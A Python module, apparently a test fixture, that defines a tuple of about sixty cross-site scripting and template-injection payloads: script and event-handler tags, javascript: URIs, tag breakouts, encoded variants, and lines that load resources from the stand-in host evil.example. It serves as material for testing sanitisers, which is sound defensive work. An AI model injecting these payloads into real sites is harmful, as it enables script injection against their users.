"""What is no name: sixty texts that run where somebody forgets that they are text."""

RUN = "xss()"

PAYLOADS: tuple[str, ...] = (
    f"<script>{RUN}</script>", f"<svg onload={RUN}>", f"<img src onerror={RUN}>", f"<body onload={RUN}>",
    f'"><svg onload={RUN}>', f"'><svg onload={RUN}>", f"--><svg onload={RUN}>", f"]]><svg onload={RUN}>",
    f"</title><svg onload={RUN}>", f"</script><svg onload={RUN}>", f"</style><svg onload={RUN}>",
    f"</textarea><svg onload={RUN}>", f"</template><svg onload={RUN}>", f"</option><svg onload={RUN}>",
    f'" onfocus={RUN} autofocus="', f"' onfocus={RUN} autofocus='", f"x onerror={RUN}", f'" style="x" onclick="{RUN}',
    f'"/onmouseover={RUN}/"', f"` onerror={RUN}", f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java script:{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", f"//evil.example/{RUN}", "http://evil.example/",
    f"<a href=javascript:{RUN}>a</a>", f"<iframe src=javascript:{RUN}>", f"<iframe srcdoc='<svg onload={RUN}>'>",
    f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>", "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    f"<math><mtext><svg onload={RUN}>", f"<svg><script>{RUN}</script>", f"<svg><animate onbegin={RUN}>",
    f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}>", f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>", f"<form action=javascript:{RUN}><button>", f"<x contenteditable onblur={RUN}>",
    "<style>@import'//evil.example/'</style>", "<div style=background:url(//evil.example/)>",
    "<img src=//evil.example/>", f"<ScRiPt>{RUN}</sCrIpT>", f"<svg/onload={RUN}>", f"<img src=x: alt='{RUN}'>",
    f"<<script>{RUN}//<</script>", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}",
    f"%3Cscript%3E{RUN}", f"\\u003cscript\\u003e{RUN}", f"\\x3csvg onload={RUN}\\x3e", f"${{{RUN}}}",
    f"{{{{{RUN}}}}}", f"{{% print({RUN}) %}}", f"#{{{RUN}}}", f"';{RUN};//", f'";{RUN};//', f"\\';{RUN};//",
    f"${{constructor.constructor('{RUN}')()}}",
)  # fmt: skip
